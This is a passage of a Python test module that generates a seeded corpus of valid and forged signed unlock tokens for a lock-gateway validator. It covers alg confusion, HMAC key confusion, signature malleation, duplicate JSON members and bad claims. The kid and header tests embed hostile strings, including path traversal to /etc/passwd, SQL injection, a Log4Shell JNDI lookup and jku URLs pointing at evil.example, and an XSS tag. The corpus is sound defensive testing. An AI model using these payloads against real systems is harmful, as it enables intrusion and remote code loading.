"""A deterministic corpus of forged, mutated and valid unlock tokens for the gateway tests.

Every choice (keys, jtis, which bit to flip, where to cut) comes from one seeded generator, and
ECDSA signatures use RFC 6979 deterministic nonces, so the corpus is the same on every run. Two
exceptions, neither of which changes what is tested: the RSA key (cryptography cannot derive
one from a seed; its tokens are refused whatever the key) and the tokens minted by the real
issuer code (PyJWT signs with random nonces).

The corpus has four parts:

- ``valid``: tokens that must all be accepted, once each, by a fresh validator. They prove the
  validator is not simply refusing everything, and cover the corners of the policy (leeway
  edges, longest lifetime, rotated key, extra claims, odd but legal JSON).
- ``hostile``: at least 10,000 forged or mutated tokens that a fresh validator must refuse,
  whatever order they come in (they never share a jti with a valid token, so a refusal is
  never just a replay).
- ``after_valid``: tokens that are refused because the valid ones were accepted first: replays,
  and the malleated twin (s -> n - s) of valid signatures.
- ``resigned``: randomly mutated headers and claims, signed by the trusted key. Some are
  valid, most not; only the differential test uses them, to compare JSON handling.
"""

import base64
import functools
import hashlib
import hmac
import json
import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
)

from api.keys.keyring import KeyRing, KeyState, SigningKey
from api.unlock.tokens import UnlockTokenMinter
from citykey_protocol.claims import MAX_TOKEN_BYTES, UNLOCK_TOKEN_TYPE
from citykey_protocol.codes import TokenRejection
from lock_gateway.keys import KeySet
from lock_gateway.replay import ReplayGuard
from lock_gateway.validator import TokenValidator

SEED = 0x5EED_2026
NOW = 1_800_000_000
"""The validator's (frozen) clock in every corpus test."""
ISSUER = "https://citykey.example.org"
GATEWAY = "gw-lib-grunerlokka"
OTHER_GATEWAY = "gw-lib-majorstuen"
DOORS = ("main-entrance", "staff-door")
OTHER_DOOR = "garage-door"
KID = "k-4a08a3ea7d52"
ROTATED_KID = "k-9f31c07b2e44"
LEEWAY = 5.0
MAX_LIFETIME = 120.0
LIFETIME = 30
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
GOOD_HEADER: dict[str, object] = {"alg": "ES256", "kid": KID, "typ": UNLOCK_TOKEN_TYPE}
CLAIM_NAMES = ("iss", "aud", "sub", "door", "dur", "jti", "iat", "nbf", "exp")
INT_CLAIMS = ("dur", "iat", "nbf", "exp")
STR_CLAIMS = ("iss", "aud", "sub", "door", "jti")

R = TokenRejection
ANY: frozenset[TokenRejection] | None = None
"""A case whose exact reason depends on the mutation: any refusal will do."""


class _Missing:
    """Marker: drop this member."""


MISSING = _Missing()


@dataclass(frozen=True, slots=True)
class Case:
    """One token that must be refused, and the reasons that are acceptable for it."""

    category: str
    token: object
    """Nearly always str or bytes; a few cases are other objects (not text at all)."""
    reasons: frozenset[TokenRejection] | None = None


@dataclass(frozen=True)
class Corpus:
    """The generated tokens and the trusted keys they are judged against."""

    trusted: Mapping[str, ec.EllipticCurvePublicKey]
    impostor: ec.EllipticCurvePublicKey
    """A P-256 key nobody trusts; it signed the "valid signature, unknown key" cases."""
    valid: tuple[str | bytes, ...]
    hostile: tuple[Case, ...]
    after_valid: tuple[Case, ...]
    resigned: tuple[str, ...]
    categories: frozenset[str] = field(default=frozenset())

    def key_set(self) -> KeySet:
        """The gateway's key set: the two trusted keys, by kid."""
        return KeySet(self.trusted)


def make_validator(
    keys: KeySet, *, guard: ReplayGuard | None = None, now: float = NOW
) -> TokenValidator:
    """A validator with the corpus policy, a frozen clock and a fresh guard unless given."""
    return TokenValidator(
        keys=keys,
        issuer=ISSUER,
        gateway_id=GATEWAY,
        doors=DOORS,
        replay_guard=guard if guard is not None else ReplayGuard(leeway=LEEWAY),
        leeway=LEEWAY,
        max_lifetime=MAX_LIFETIME,
        clock=lambda: now,
    )


def b64(data: bytes) -> str:
    """base64url without padding (RFC 7515)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(segment: str) -> bytes:
    """Lenient base64url decoding, for taking the corpus's own tokens apart."""
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def compact_json(value: object) -> bytes:
    """JSON as PyJWT writes it: no blanks."""
    return json.dumps(value, separators=(",", ":")).encode()


def es256(key: ec.EllipticCurvePrivateKey, signing_input: bytes) -> bytes:
    """The 64-byte r || s signature of a JWS, with a deterministic nonce."""
    der = key.sign(signing_input, ec.ECDSA(hashes.SHA256(), deterministic_signing=True))
    r, s = decode_dss_signature(der)
    size = (key.curve.key_size + 7) // 8
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")


def split_signature(token: str) -> tuple[str, int, int]:
    """(signing input, r, s) of a compact ES256 token."""
    signing_input, _, signature = token.rpartition(".")
    raw = unb64(signature)
    return signing_input, int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")


def with_signature(signing_input: str, r: int, s: int, size: int = 32) -> str:
    """A token from its signing input and signature integers (which may be out of range)."""
    return f"{signing_input}.{b64(r.to_bytes(size, 'big') + s.to_bytes(size, 'big'))}"


def malleated(token: str) -> str:
    """The other valid ECDSA signature of the same token: (r, s) -> (r, n - s)."""
    signing_input, r, s = split_signature(token)
    return with_signature(signing_input, r, P256_ORDER - s)


def _nested_list(depth: int) -> list[object]:
    nested: list[object] = []
    for _ in range(depth):
        nested = [nested]
    return nested


def _case_spellings(word: str) -> Iterator[str]:
    for mask in range(1 << len(word)):
        yield "".join(c.upper() if mask >> i & 1 else c.lower() for i, c in enumerate(word))


class TokenFactory:
    """Signs tokens with the corpus keys (derived from ``seed``) and builds the corpus parts."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.trusted = ec.derive_private_key(self._scalar(), ec.SECP256R1())
        self.rotated = ec.derive_private_key(self._scalar(), ec.SECP256R1())
        self.impostor = ec.derive_private_key(self._scalar(), ec.SECP256R1())
        self.hostile: list[Case] = []
        self.valid: list[str | bytes] = []
        self.after_valid: list[Case] = []
        self.resigned: list[str] = []

    # -- building blocks ------------------------------------------------------------------

    def _scalar(self) -> int:
        return self.rng.randrange(1, P256_ORDER)

    def jti(self) -> str:
        return f"{self.rng.getrandbits(128):032x}"

    def claims(self, **changes: object) -> dict[str, object]:
        """Valid claims with a fresh jti, then ``changes`` (MISSING drops a member)."""
        claims: dict[str, object] = {
            "iss": ISSUER,
            "aud": GATEWAY,
            "sub": f"u_{self.rng.getrandbits(64):016x}",
            "door": DOORS[self.rng.randrange(2)],
            "dur": 5,
            "jti": self.jti(),
            "iat": NOW,
            "nbf": NOW,
            "exp": NOW + LIFETIME,
        }
        for name, value in changes.items():
            if value is MISSING:
                del claims[name]
            else:
                claims[name] = value
        return claims

    def token(
        self,
        header: Mapping[str, object] | bytes | None = None,
        claims: Mapping[str, object] | bytes | None = None,
        key: ec.EllipticCurvePrivateKey | None = None,
    ) -> str:
        """A compact JWS of the given header and claims (JSON values or raw bytes)."""
        header_json = header if isinstance(header, bytes) else compact_json(header or GOOD_HEADER)
        claims_json = claims if isinstance(claims, bytes) else compact_json(claims or self.claims())
        signing_input = f"{b64(header_json)}.{b64(claims_json)}"
        return f"{signing_input}.{b64(es256(key or self.trusted, signing_input.encode()))}"

    def _signing_input(self, header: Mapping[str, object]) -> str:
        return f"{b64(compact_json(header))}.{b64(compact_json(self.claims()))}"

    def claims_text(self, **changes: object) -> str:
        """Compact claims JSON without the closing brace, to append raw members to."""
        return compact_json(self.claims(**changes)).decode()[:-1]

    def add(self, category: str, token: object, reasons: frozenset[TokenRejection] | None) -> None:
        self.hostile.append(Case(category, token, reasons))

    # -- valid tokens ---------------------------------------------------------------------

    def build_valid(self) -> None:
        ring = KeyRing([SigningKey(KID, KeyState.ACTIVE, self.trusted)])
        minter = UnlockTokenMinter(ring, ISSUER, LIFETIME, clock=lambda: NOW)
        for i in range(60):
            token, _ = minter.mint(
                gateway_id=GATEWAY,
                door_id=DOORS[i % 2],
                subject=f"u_{i:016x}",
                seconds=1 + i * 60,
            )
            self.valid.append(token if i % 3 else token.encode())
        edges: list[dict[str, object]] = [
            self.claims(exp=NOW - int(LEEWAY) + 1, iat=NOW - 60, nbf=NOW - 60),
            self.claims(nbf=NOW + int(LEEWAY), iat=NOW + int(LEEWAY), exp=NOW + 35),
            self.claims(iat=NOW - 60, nbf=NOW - 60, exp=NOW - 60 + int(MAX_LIFETIME)),
            self.claims(nbf=NOW + int(LEEWAY), iat=NOW, exp=NOW + int(LEEWAY)),  # nbf == exp
            self.claims(dur=1),
            self.claims(dur=3600),
            self.claims(iat=NOW - 100, nbf=NOW - 100, exp=NOW + 20),
            self.claims(jti="x"),
            self.claims(sub="u_\u00e6\u00f8\u00e5-\U0001f511"),
            self.claims(door=DOORS[1]),
        ]
        for claims in edges:
            self.valid.append(self.token(claims=claims))
        # Extra claims are allowed and ignored (forward compatibility); they take the exact
        # duplicate-member path.
        extras: list[object] = [
            "scope-unlock",
            {"booking": {"id": 7, "tags": ["a", "b"]}},
            [1, 2.5, None, True, "x"],
            1e300,
            'text with ":" inside',
            _nested_list(40),
        ]
        for value in extras:
            self.valid.append(self.token(claims=self.claims(ext=value)))
        # Legal JSON spelled differently from PyJWT: blanks, other member order, escapes.
        pretty = json.dumps(self.claims(), indent=2).encode()
        self.valid.append(self.token(claims=pretty))
        shuffled = list(self.claims().items())
        self.rng.shuffle(shuffled)
        self.valid.append(self.token(claims=compact_json(dict(shuffled))))
        escaped = compact_json(self.claims()).replace(b'"iss"', b'"\\u0069ss"')
        self.valid.append(self.token(claims=escaped))
        ascii_only = json.dumps(self.claims(sub="\u00e6\u00f8\u00e5"), ensure_ascii=True)
        self.valid.append(self.token(claims=ascii_only.encode()))
        header_blanks = b'{ "alg" : "ES256" , "kid" : "%s" , "typ" : "%s" }' % (
            KID.encode(),
            UNLOCK_TOKEN_TYPE.encode(),
        )
        self.valid.append(self.token(header=header_blanks))
        reordered = compact_json({"typ": UNLOCK_TOKEN_TYPE, "kid": KID, "alg": "ES256"})
        self.valid.append(self.token(header=reordered))
        # A key rotation: both published keys are trusted.
        rotated_header = {**GOOD_HEADER, "kid": ROTATED_KID}
        for _ in range(5):
            self.valid.append(self.token(header=rotated_header, key=self.rotated))
        # ECDSA signatures come in pairs (s and n - s) and PyJWT's issuer does not normalize,
        # so high-s signatures are legitimate: make sure some valid tokens carry one.
        for _ in range(10):
            token = self.token()
            _, _, s = split_signature(token)
            self.valid.append(malleated(token) if s <= P256_ORDER // 2 else token)

    # -- hostile tokens -------------------------------------------------------------------

    def build_hostile(self) -> None:
        builders: list[Callable[[], None]] = [
            self.alg_none,
            self.alg_hmac,
            self.other_algorithms,
            self.kids,
            self.header_members,
            self.duplicate_members,
            self.non_object_json,
            self.claim_types,
            self.claim_values,
            self.times,
            self.huge,
            self.signature_lengths,
            self.signature_values,
            self.impostor_key,
            self.not_text,
            self.segments,
            self.bad_base64,
            self.truncations,
            self.bit_flips,
            self.character_flips,
        ]
        for build in builders:
            build()

    def alg_none(self) -> None:
        reasons = frozenset({R.MALFORMED, R.BAD_ALGORITHM, R.BAD_HEADER})
        real_signature = self.token().rpartition(".")[2]
        for spelling in _case_spellings("none"):
            for header in (
                {"alg": spelling, "kid": KID, "typ": UNLOCK_TOKEN_TYPE},
                {"alg": spelling, "typ": UNLOCK_TOKEN_TYPE},
                {"alg": spelling},
            ):
                signing_input = f"{b64(compact_json(header))}.{b64(compact_json(self.claims()))}"
                for signature in ("", real_signature, "A" * 86, "AA"):
                    self.add("alg_none", f"{signing_input}.{signature}", reasons)
                self.add("alg_none", signing_input, reasons)
        for alg in ("", " none", "none ", "n\u00f8ne", "nOnE\u0000", "ES256\u0000", "es256"):
            self.add("alg_none", self.token(header={**GOOD_HEADER, "alg": alg}), reasons)
        not_strings: tuple[object, ...] = (None, 0, ["ES256"], {"ES256": True}, True)
        for not_string in not_strings:
            header_json = compact_json({**GOOD_HEADER, "alg": not_string})
            self.add("alg_none", self.token(header=header_json), frozenset({R.BAD_HEADER}))

    def alg_hmac(self) -> None:
        public = self.trusted.public_key()
        pem = public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        jwk = self._jwk(self.trusted)
        secrets: list[bytes] = [
            pem,
            pem.strip(),
            pem.replace(b"\n", b"\r\n"),
            public.public_bytes(
                serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
            ),
            public.public_bytes(
                serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint
            ),
            public.public_bytes(
                serialization.Encoding.X962, serialization.PublicFormat.CompressedPoint
            ),
            public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH),
            json.dumps(jwk).encode(),
            compact_json(jwk),
            json.dumps(jwk, sort_keys=True).encode(),
            compact_json({"keys": [jwk]}),
            jwk["x"].encode(),
            KID.encode(),
            b"",
        ]
        digests = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
        for secret in secrets:
            for alg, digest in digests.items():
                for spelling in (alg, alg.lower(), "ES256"):
                    header = {**GOOD_HEADER, "alg": spelling}
                    signing_input = (
                        f"{b64(compact_json(header))}.{b64(compact_json(self.claims()))}"
                    )
                    mac = hmac.new(secret, signing_input.encode(), digest).digest()
                    reasons = frozenset({R.MALFORMED, R.BAD_ALGORITHM, R.BAD_SIGNATURE})
                    self.add("alg_hmac", f"{signing_input}.{b64(mac)}", reasons)
                    # HMAC output cut or stretched to 64 bytes: passes the length check.
                    stretched = (mac * 2)[:64]
                    self.add("alg_hmac", f"{signing_input}.{b64(stretched)}", reasons)

    def other_algorithms(self) -> None:
        ed_key = ed25519.Ed25519PrivateKey.from_private_bytes(self.rng.randbytes(32))
        rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        p384 = ec.derive_private_key(self.rng.randrange(1, 2**380), ec.SECP384R1())
        p521 = ec.derive_private_key(self.rng.randrange(1, 2**510), ec.SECP521R1())
        k256 = ec.derive_private_key(self.rng.randrange(1, 2**250), ec.SECP256K1())
        signers: dict[str, Callable[[bytes], bytes]] = {
            "EdDSA": ed_key.sign,
            "Ed25519": ed_key.sign,
            "RS256": lambda data: rsa_key.sign(data, padding.PKCS1v15(), hashes.SHA256()),
            "PS256": lambda data: rsa_key.sign(
                data,
                padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=32),
                hashes.SHA256(),
            ),
            "ES384": lambda data: es256(p384, data),
            "ES512": lambda data: es256(p521, data),
            "ES256K": lambda data: es256(k256, data),
        }
        for alg, sign in signers.items():
            for claimed_alg in (alg, "ES256"):
                for _ in range(3):
                    signing_input = self._signing_input({**GOOD_HEADER, "alg": claimed_alg})
                    signature = sign(signing_input.encode())
                    reasons = frozenset({R.MALFORMED, R.BAD_ALGORITHM, R.BAD_SIGNATURE})
                    self.add("other_alg", f"{signing_input}.{b64(signature)}", reasons)

    def kids(self) -> None:
        unknown = [
            "",
            "k-unknown",
            KID.upper(),
            KID + " ",
            " " + KID,
            KID + "\u0000",
            KID[:-1],
            KID + "2",
            "\u202e" + KID,
            "\uff4b-4a08a3ea7d52",
            "../../../../etc/passwd",
            "..\\..\\keys\\" + KID + ".pem",
            "/dev/null",
            "file:///etc/shadow",
            "https://evil.example/jwks.json",
            "' OR '1'='1",
            "x'; DROP TABLE keys; --",
            KID + "' --",
            "${jndi:ldap://evil.example/a}",
            "%s%s%s%n",
            "<script>alert(1)</script>",
            "A" * 1000,
            "\u00e6" * 100,
        ]
        for kid in unknown:
            for key in (self.trusted, self.impostor):
                header = {**GOOD_HEADER, "kid": kid}
                self.add("kid", self.token(header=header, key=key), frozenset({R.UNKNOWN_KEY}))
        huge_kid = {**GOOD_HEADER, "kid": "A" * MAX_TOKEN_BYTES}
        self.add("kid", self.token(header=huge_kid), frozenset({R.OVERSIZED}))
        not_strings: tuple[object, ...] = (None, 1, 0, True, 1.5, [KID], {"kid": KID}, [], {})
        for not_string in not_strings:
            header_json = compact_json({**GOOD_HEADER, "kid": not_string})
            self.add("kid", self.token(header=header_json), frozenset({R.BAD_HEADER}))
        no_kid = compact_json({"alg": "ES256", "typ": UNLOCK_TOKEN_TYPE})
        self.add("kid", self.token(header=no_kid), frozenset({R.BAD_HEADER}))

    def header_members(self) -> None:
        impostor_jwk = self._jwk(self.impostor)
        extra: list[tuple[str, object]] = [
            ("jku", "https://evil.example/jwks.json"),
            ("jku", "http://127.0.0.1/.well-known/jwks.json"),
            ("x5u", "https://evil.example/cert.pem"),
            ("jwk", impostor_jwk),
            ("jwk", self._jwk(self.trusted)),
            ("crit", ["exp"]),
            ("crit", ["b64"]),
            ("crit", []),
            ("b64", False),
            ("x5c", ["MIIBszCCAVmgAwIBAgIU"]),
            ("x5t", "dGh1bWJwcmludA"),
            ("x5t#S256", "dGh1bWJwcmludA"),
            ("cty", "JWT"),
            ("zip", "DEF"),
            ("enc", "A256GCM"),
            ("kid2", KID),
            ("iss", ISSUER),
            ("", ""),
        ]
        for name, value in extra:
            for key in (self.trusted, self.impostor):
                header_json = compact_json({**GOOD_HEADER, name: value})
                token = self.token(header=header_json, key=key)
                self.add("header_member", token, frozenset({R.BAD_HEADER}))
        for typ in (
            "JWT",
            "jwt",
            "at+jwt",
            "citykey-identity+jwt",
            UNLOCK_TOKEN_TYPE.upper(),
            UNLOCK_TOKEN_TYPE + " ",
            "application/" + UNLOCK_TOKEN_TYPE,
            "",
        ):
            header = {**GOOD_HEADER, "typ": typ}
            self.add("typ", self.token(header=header), frozenset({R.BAD_TYPE}))
        not_strings: tuple[object, ...] = (None, 1, [UNLOCK_TOKEN_TYPE])
        for not_string in not_strings:
            header_json = compact_json({**GOOD_HEADER, "typ": not_string})
            self.add("typ", self.token(header=header_json), frozenset({R.BAD_HEADER}))
        no_typ = compact_json({"alg": "ES256", "kid": KID})
        self.add("typ", self.token(header=no_typ), frozenset({R.BAD_HEADER}))
        # An identity-style token signed by the trusted key: the typ keeps it out.
        identity = self.token(
            header={**GOOD_HEADER, "typ": "JWT"},
            claims={"iss": ISSUER, "sub": "u_1", "aud": "citykey-app", "exp": NOW + 600},
        )
        self.add("typ", identity, frozenset({R.BAD_TYPE}))

    def _jwk(self, key: ec.EllipticCurvePrivateKey) -> dict[str, str]:
        jwk: dict[str, str] = KeyRing([SigningKey(KID, KeyState.ACTIVE, key)]).jwks()["keys"][0]
        return jwk

    def duplicate_members(self) -> None:
        t = UNLOCK_TOKEN_TYPE
        headers = [
            # The last value is the good one: a last-wins parser would accept these.
            f'{{"alg":"none","alg":"ES256","kid":"{KID}","typ":"{t}"}}',
            f'{{"alg":"ES256","kid":"k-evil","kid":"{KID}","typ":"{t}"}}',
            f'{{"alg":"ES256","kid":"{KID}","typ":"JWT","typ":"{t}"}}',
            f'{{"alg":"ES256","kid":"{KID}","typ":"{t}","typ":"{t}"}}',
            f'{{"alg":"ES256","\\u0061lg":"ES256","kid":"{KID}","typ":"{t}"}}',
            f'{{"alg":"ES256","kid":"{KID}","kid":"{KID}","typ":"{t}"}}',
            f'{{"alg":"ES256","kid":"{KID}" , "kid" :"{KID}","typ":"{t}"}}',
        ]
        for header in headers:
            for key in (self.trusted, self.impostor):
                token = self.token(header=header.encode(), key=key)
                self.add("duplicate_member", token, frozenset({R.BAD_HEADER}))
        # The first value is the good one: a first-wins parser would accept these.
        first_wins = f'{{"alg":"ES256","kid":"{KID}","typ":"{t}","alg":"none"}}'
        self.add("duplicate_member", self.token(header=first_wins.encode()), ANY)
        claims_twice: list[str] = [
            self.claims_text(aud=OTHER_GATEWAY) + f',"aud":"{GATEWAY}"}}',
            self.claims_text(door=OTHER_DOOR) + f',"door":"{DOORS[0]}"}}',
            self.claims_text(exp=NOW - 3600) + f',"exp":{NOW + 30}}}',
            self.claims_text(iss="https://evil.example") + f',"iss":"{ISSUER}"}}',
            self.claims_text(dur=86400) + ',"dur":5}',
            self.claims_text() + f',"jti":"{self.jti()}"}}',
            self.claims_text() + ',"sub":"u_other"}',
            self.claims_text() + f',"\\u0061ud":"{GATEWAY}"}}',
            self.claims_text() + f' , "aud" : "{GATEWAY}" }}',
            self.claims_text() + ',"x":{"a":1,"a":2}}',
            self.claims_text() + ',"x":[{"a":1},{"b":2,"b":2}]}',
            self.claims_text() + ',"x":1,"x":1}',
        ]
        for text in claims_twice:
            for key in (self.trusted, self.impostor):
                token = self.token(claims=text.encode(), key=key)
                self.add("duplicate_member", token, frozenset({R.BAD_CLAIMS}))

    def non_object_json(self) -> None:
        bodies: list[bytes] = [
            b"[]",
            b"[1]",
            b'"ES256"',
            b"1",
            b"null",
            b"true",
            b"{}",
            b"",
            b" ",
            b"{",
            b"}",
            b"{}{}",
            b"[{}]",
            b"NaN",
            b"\xef\xbb\xbf{}",
            b"{'alg':'ES256'}",
            b'{"a":1,}',
            b"/* */{}",
            b"\x00",
            b"\xff\xfe{\x00}\x00",
        ]
        good_header = compact_json(GOOD_HEADER)
        good_claims = compact_json(self.claims())
        variants: list[bytes] = [
            b"\xef\xbb\xbf" + good_claims,
            good_claims + b"x",
            good_claims + b"{}",
            good_claims[:-1],
            good_claims.replace(b":", b"=", 1),
            good_claims.decode().encode("utf-16"),
            good_claims.decode().encode("utf-32-le"),
            b"[" + good_claims + b"]",
            good_claims.replace(b'"', b"'"),
            good_claims + b"\x00",
        ]
        for body in bodies:
            # An empty segment is refused as malformed before any JSON is read.
            header_reasons = frozenset({R.BAD_HEADER if body else R.MALFORMED})
            claims_reasons = frozenset({R.BAD_CLAIMS if body else R.MALFORMED})
            for key in (self.trusted, self.impostor):
                self.add(
                    "non_object_json",
                    self.token(header=body, claims=good_claims, key=key),
                    header_reasons,
                )
                self.add(
                    "non_object_json",
                    self.token(header=good_header, claims=body, key=key),
                    claims_reasons,
                )
        for body in variants:
            self.add("non_object_json", self.token(claims=body), frozenset({R.BAD_CLAIMS}))
            self.add(
                "non_object_json",
                self.token(header=body.replace(good_claims, good_header)),
                frozenset({R.BAD_HEADER}),
            )
        lone = self.claims_text() + ',"x":"\\ud800"}'
        self.add("non_object_json", self.token(claims=lone.encode()), frozenset({R.BAD_CLAIMS}))
        pair = self.claims_text() + ',"x":"\\udc00\\ud800"}'
        self.add("non_object_json", self.token(claims=pair.encode()), frozenset({R.BAD_CLAIMS}))
        for raw in (b"\xed\xa0\x80", b"\xc0\xaf", b"\xf4\x90\x80\x80", b"\xff", b"\x80"):
            unknown = self.claims_text().encode() + b',"x":"' + raw + b'"}'
            self.add("non_object_json", self.token(claims=unknown), frozenset({R.BAD_CLAIMS}))
            name = self.claims_text().encode() + b',"' + raw + b'":1}'
            self.add("non_object_json", self.token(claims=name), frozenset({R.BAD_CLAIMS}))
            known = self.claims_text(sub=MISSING).encode() + b',"sub":"' + raw + b'"}'
            self.add("non_object_json", self.token(claims=known), frozenset({R.BAD_CLAIMS}))
        for constant in ("NaN", "Infinity", "-Infinity"):
            text = self.claims_text() + f',"x":{constant}}}'
            self.add("non_object_json", self.token(claims=text.encode()), frozenset({R.BAD_CLAIMS}))

    def claim_types(self) -> None:
        bad_claims = frozenset({R.BAD_CLAIMS})
        for name in CLAIM_NAMES:
            self.add("claim_missing", self.token(claims=self.claims(**{name: MISSING})), bad_claims)
            self.add("claim_type", self.token(claims=self.claims(**{name: None})), bad_claims)
        for name in INT_CLAIMS:
            value = self.claims()[name]
            assert isinstance(value, int)
            for wrong in (
                True,
                False,
                float(value),
                value + 0.5,
                str(value),
                [value],
                {"value": value},
            ):
                token = self.token(claims=self.claims(**{name: wrong}))
                self.add("claim_type", token, bad_claims)
            # Spellings of the same number that are JSON floats, not integers.
            for spelling in (f"{value}.0", f"{value}e0", f"{value}E+0", f"{value / 10}e1"):
                text = self.claims_text(**{name: MISSING}) + f',"{name}":{spelling}}}'
                self.add("claim_type", self.token(claims=text.encode()), bad_claims)
            for huge in (10**30, -(10**30), 2**63, 2**64, -(2**63) - 1):
                self.add("claim_huge", self.token(claims=self.claims(**{name: huge})), ANY)
        not_strings: tuple[object, ...] = (1, 0, True, ["x"], {"x": 1}, 1.5)
        for name in STR_CLAIMS:
            for not_string in not_strings:
                token = self.token(claims=self.claims(**{name: not_string}))
                self.add("claim_type", token, bad_claims)
        audiences: tuple[object, ...] = (
            [GATEWAY],
            [GATEWAY, OTHER_GATEWAY],
            [OTHER_GATEWAY, GATEWAY],
            [],
            {},
        )
        for audience in audiences:
            self.add("claim_type", self.token(claims=self.claims(aud=audience)), bad_claims)

    def claim_values(self) -> None:
        for iss in (
            "https://evil.example",
            ISSUER + "/",
            ISSUER.upper(),
            ISSUER.replace("https", "http"),
            " " + ISSUER,
            ISSUER + "\u0000",
            "",
        ):
            self.add(
                "wrong_iss", self.token(claims=self.claims(iss=iss)), frozenset({R.BAD_ISSUER})
            )
        for aud in (OTHER_GATEWAY, "", GATEWAY.upper(), GATEWAY + " ", GATEWAY[:-1], "*"):
            self.add(
                "wrong_aud", self.token(claims=self.claims(aud=aud)), frozenset({R.WRONG_GATEWAY})
            )
        for door in (OTHER_DOOR, "", DOORS[0].upper(), DOORS[0] + " ", "*", "../" + DOORS[0]):
            self.add(
                "wrong_door", self.token(claims=self.claims(door=door)), frozenset({R.UNKNOWN_DOOR})
            )
        # Everything wrong at once: still one clean refusal.
        everything = self.claims(iss="x", aud="y", door="z", exp=0)
        self.add("wrong_iss", self.token(claims=everything), frozenset({R.BAD_ISSUER}))

    def times(self) -> None:
        leeway = int(LEEWAY)
        expired = frozenset({R.EXPIRED})
        for exp in (NOW - leeway, NOW - leeway - 1, NOW - 3600, 0, -1, -(2**62)):
            claims = self.claims(exp=exp, iat=exp - 30, nbf=exp - 30)
            self.add("expired", self.token(claims=claims), expired)
        early = frozenset({R.NOT_YET_VALID})
        for nbf in (NOW + leeway + 1, NOW + 3600, 2**40):
            claims = self.claims(nbf=nbf, exp=nbf + 30)
            self.add("not_yet_valid", self.token(claims=claims), early)
        for iat in (NOW + leeway + 1, NOW + 10**9):
            claims = self.claims(iat=iat, nbf=NOW, exp=NOW + 30)
            self.add("not_yet_valid", self.token(claims=claims), early)
        too_long = frozenset({R.LIFETIME_TOO_LONG})
        for lifetime in (int(MAX_LIFETIME) + 1, 3600, 86400 * 365, 10**12):
            claims = self.claims(iat=NOW, nbf=NOW, exp=NOW + lifetime)
            self.add("lifetime", self.token(claims=claims), too_long)
        bad = frozenset({R.BAD_CLAIMS})
        for iat, nbf, exp in (
            (NOW, NOW + 4, NOW + 3),  # nbf after exp
            (NOW, NOW - 1, NOW + 30),  # nbf before iat
            (NOW, -(2**62), NOW + 30),  # absurd nbf
        ):
            self.add("time_order", self.token(claims=self.claims(iat=iat, nbf=nbf, exp=exp)), bad)
        for dur in (0, -1, 3601, 10**9, -(10**30)):
            self.add("dur", self.token(claims=self.claims(dur=dur)), bad)
        self.add("jti", self.token(claims=self.claims(jti="")), bad)

    def huge(self) -> None:
        oversized = frozenset({R.OVERSIZED})
        for length in (MAX_TOKEN_BYTES + 1, 4096, 65536, 1 << 20):
            padded = self.token(claims=self.claims(pad="p" * length))
            self.add("huge", padded, oversized)
            self.add("huge", padded.encode(), oversized)
            self.add("huge", "A" * length, oversized)
            self.add("huge", b"." * length, oversized)
        self.add("huge", "\u00e9" * (MAX_TOKEN_BYTES // 2 + 1), frozenset({R.MALFORMED}))
        self.add("huge", "\u00e9" * MAX_TOKEN_BYTES, frozenset({R.MALFORMED}))

    def signature_lengths(self) -> None:
        malformed = frozenset({R.MALFORMED})
        for _ in range(4):
            token = self.token()
            signing_input, r, s = split_signature(token)
            raw = r.to_bytes(32, "big") + s.to_bytes(32, "big")
            for length in (0, 1, 31, 32, 48, 62, 63, 65, 66, 96, 128, 132, 256, 512):
                cut = (raw * 9)[:length]
                self.add("signature_length", f"{signing_input}.{b64(cut)}", malformed)
            der = self.trusted.sign(
                signing_input.encode(), ec.ECDSA(hashes.SHA256(), deterministic_signing=True)
            )
            self.add("signature_length", f"{signing_input}.{b64(der)}", malformed)

    def signature_values(self) -> None:
        bad_signature = frozenset({R.BAD_SIGNATURE})
        top = 2**256 - 1
        for _ in range(3):
            signing_input, r, s = split_signature(self.token())
            for new_r, new_s in (
                (0, s),
                (r, 0),
                (0, 0),
                (P256_ORDER, s),
                (r, P256_ORDER),
                (r + P256_ORDER, s),
                (r, s + P256_ORDER),
                (P256_ORDER + 1, P256_ORDER + 1),
                (top, s),
                (r, top),
                (top, top),
                (1, 1),
                (r, r),
                (s, r),
                (r, P256_ORDER - 1),
                (P256_ORDER - 1, s),
            ):
                if new_r <= top and new_s <= top:
                    self.add(
                        "signature_value",
                        with_signature(signing_input, new_r, new_s),
                        bad_signature,
                    )
            # (r, n - s) is valid ECDSA; with the sign of r flipped as well it is not.
            self.add(
                "signature_value",
                with_signature(signing_input, P256_ORDER - r, P256_ORDER - s),
                bad_signature,
            )

    def impostor_key(self) -> None:
        bad_signature = frozenset({R.BAD_SIGNATURE})
        for kid in (KID, ROTATED_KID):
            for _ in range(10):
                token = self.token(header={**GOOD_HEADER, "kid": kid}, key=self.impostor)
                self.add("impostor_key", token, bad_signature)
        # Signed by the rotated key but naming the other trusted kid.
        crossed = self.token(header=GOOD_HEADER, key=self.rotated)
        self.add("impostor_key", crossed, bad_signature)

    def not_text(self) -> None:
        token = self.token()
        for value in (None, 0, 1.5, [token], {"token": token}, bytearray(token.encode())):
            self.add("not_text", value, frozenset({R.MALFORMED}))
        self.add("not_text", memoryview(token.encode()), frozenset({R.MALFORMED}))

    def segments(self) -> None:
        malformed = frozenset({R.MALFORMED})
        token = self.token()
        header, claims, signature = token.split(".")
        shapes = [
            "",
            ".",
            "..",
            "...",
            "....",
            f".{claims}.{signature}",
